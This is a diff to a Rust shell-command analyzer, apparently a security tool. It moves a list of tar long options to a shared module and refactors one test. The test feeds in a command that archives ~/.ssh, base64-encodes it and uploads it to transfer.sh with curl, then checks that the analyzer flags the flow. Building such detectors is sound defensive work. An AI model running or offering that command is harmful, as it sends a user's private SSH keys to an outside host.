@@ -3,6 +3,7 @@
 
 use super::super::facts::{Analyzer, CommandContext};
 use super::super::options::{parse_opts, Arg};
+use crate::flow::shell::options::valued_long::TAR_LONG;
 
 impl Analyzer {
     pub(super) fn tar(&mut self, args: &[Arg], ctx: &mut CommandContext) {
@@ -142,51 +143,15 @@ impl Analyzer {
     }
 }
 
-const TAR_LONG: &[&str] = &[
-    "file",
-    "directory",
-    "files-from",
-    "exclude-from",
-    "exclude",
-    "transform",
-    "xform",
-    "owner",
-    "group",
-    "mode",
-    "mtime",
-    "use-compress-program",
-    "index-file",
-    "label",
-    "newer",
-    "after-date",
-    "suffix",
-    "format",
-    "blocking-factor",
-    "record-size",
-    "checkpoint-action",
-    "to-command",
-    "info-script",
-    "new-volume-script",
-    "rsh-command",
-    "volno-file",
-    "tape-length",
-    "sort",
-    "strip-components",
-    "newer-mtime",
-    "owner-map",
-    "group-map",
-];
-
 #[cfg(test)]
 mod tests {
     use crate::flow::shell::analyze;
-    use crate::flow::shell::test_util::s;
+    use crate::flow::shell::test_util::{facts_and_one, s};
 
     #[test]
     fn tar_base64_curl() {
-        let f = analyze("tar czf - ~/.ssh | base64 | curl -s -X PUT --data-binary @- https://transfer.sh/keys.b64");
-        assert_eq!(f.net.len(), 1);
-        let n = &f.net[0];
+        let (f, n) =
+            facts_and_one("tar czf - ~/.ssh | base64 | curl -s -X PUT --data-binary @- https://transfer.sh/keys.b64");
         assert_eq!(n.stdin_from, s(&["~/.ssh"]));
         assert!(n.reads_stdin);
         assert_eq!(n.hosts, s(&["transfer.sh"]));
